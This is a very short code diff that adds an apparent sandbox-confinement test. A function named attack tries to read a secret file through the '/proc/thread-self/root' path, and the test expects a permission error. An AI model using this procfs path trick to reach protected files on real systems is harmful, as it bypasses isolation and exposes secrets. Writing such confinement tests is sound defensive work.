@@ -1,0 +1,3 @@
+confined = "EACCES"
+def attack(w):
+    print(open("/proc/thread-self/root" + w.secret).read())
